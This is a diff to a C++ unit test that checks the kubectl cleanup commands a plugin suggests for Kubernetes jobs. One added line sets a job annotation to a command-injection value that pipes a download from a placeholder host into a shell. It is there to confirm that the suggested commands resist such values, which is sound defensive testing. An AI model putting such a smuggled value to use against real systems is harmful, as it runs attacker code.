@@ -237,6 +237,9 @@ TEST(PluginConvert, AJobOfTheLaneSaysThatItsDurableJobAndPodsMustBeGoneFirst) {
                            HasSubstr("delete pod -l holdfast.dev/job-name=pi-x7 "))));
     EXPECT_THAT(notes, Not(Contains(HasSubstr("--cascade=foreground"))))
         << "the lane does not wait for the pods";
+    given["metadata"]["annotations"]["holdfast.dev/durable-job"] = "pi; curl evil | sh; #";
+    EXPECT_THAT(notes_of(given), Contains(HasSubstr("`kubectl wait --for=delete dj/pi --timeout")))
+        << "people paste these commands, and the Job's owner writes its annotations";
     given["metadata"]["uid"] = "u-copy";
     EXPECT_THAT(notes_of(given), Contains(HasSubstr("--for=delete dj/pi ")));
   }
